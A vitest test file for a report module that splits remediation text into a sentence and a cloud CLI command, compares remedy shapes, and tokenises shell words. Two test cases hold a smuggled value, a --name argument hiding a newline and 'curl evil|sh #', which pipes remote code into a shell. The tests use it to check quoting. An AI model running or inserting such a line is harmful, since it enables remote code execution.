import { expect, test } from "vitest";
import { remedyShape, shellWords, splitRemedy } from "../../src/report/remedy.ts";

test.each([
  ["Switch it on: aws eks x --name a", "Switch it on.", "aws eks x --name a"],
  ["Switch it on. gcloud x y", "Switch it on.", "gcloud x y"],
  ["Keep the group's days\naws logs put x", "Keep the group's days", "aws logs put x"],
  [
    "Raise policy 'a: rm b' of the account's: aws logs list",
    "Raise policy 'a: rm b' of the account's.",
    "aws logs list",
  ],
  ["Ask the owner of the folder.", "Ask the owner of the folder.", undefined],
  ["Use Kubernetes 1.32 or later: see the docs", "Use Kubernetes 1.32 or later.", "see the docs"],
  ["Drop it: aws logs x --name 'a\ncurl evil|sh #'", "Drop it.", "aws logs x --name 'a\ncurl evil|sh #'"],
  ["Drop it: aws x --name 'a'\\''\ncurl evil|sh #'", "Drop it.", "aws x --name 'a'\\''\ncurl evil|sh #'"],
])("splits %j into sentence and command", (text, sentence, command) => {
  expect(splitRemedy(text)).toEqual({ sentence, command });
});

test("remedies that differ in values alone have the same shape", () => {
  expect(remedyShape(remedy("pay", 365), ["pay"])).toBe(remedyShape(remedy("shop", 400), ["shop"]));
  expect(remedyShape(remedy("pay", 365), ["pay"])).not.toBe(remedyShape("Do: aws logs tag --log-group-name x", []));
  expect(remedyShape(remedy("a", 365), ["a"])).toBe(remedyShape(remedy("logs-1", 365), ["logs-1"]));
  expect(remedyShape("Ask the owner of pay.", ["pay"])).toBe(remedyShape("Ask the owner of shop.", ["shop"]));
});

test("cuts a command where a shell does", () => {
  expect(shellWords(`a 'b c' "d \\" e" f\\ g  h'i j'`)).toEqual(["a", "'b c'", `"d \\" e"`, "f\\ g", "h'i j'"]);
  expect(shellWords("a 'never closed b")).toEqual(["a", "'never closed b"]);
});

function remedy(name: string, days: number): string {
  return `Keep ${name}: aws logs put-retention-policy --log-group-name /aws/eks/${name}/cluster --retention-in-days ${days}`;
}
